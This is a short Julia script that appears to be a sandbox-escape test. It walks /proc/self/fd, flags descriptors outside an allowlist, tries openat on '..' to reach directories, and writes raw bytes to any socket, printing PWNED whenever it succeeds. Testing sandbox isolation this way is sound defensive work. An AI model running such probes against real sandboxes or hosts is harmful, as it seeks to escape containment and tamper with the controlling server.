# tries: to find a descriptor that belongs to the server or to us: a socket, a file, a folder | got through if: output contains PWNED
answer(x) = 0
usual = r"^(/dev/null|/dev/u?random|/proc/\d+/(mem|fd)|anon_inode:\[event(fd|poll)\]|pipe:\[\d+\]|)$"
for name in readdir("/proc/self/fd")
    link = try readlink("/proc/self/fd/$name") catch; "" end
    occursin(usual, link) || println("PWNED ", name, " is ", link)
    ccall(:openat, Cint, (Cint, Cstring, Cint), parse(Cint, name), "..", 0) >= 0 && println("PWNED ", name, " is a folder")
    # a socket could pass orders to the server, or take descriptors meant for it
    ccall(:send, Cssize_t, (Cint, Ptr{UInt8}, Csize_t, Cint), parse(Cint, name), "G\0\0\0\0", 5, 0x4000)
end
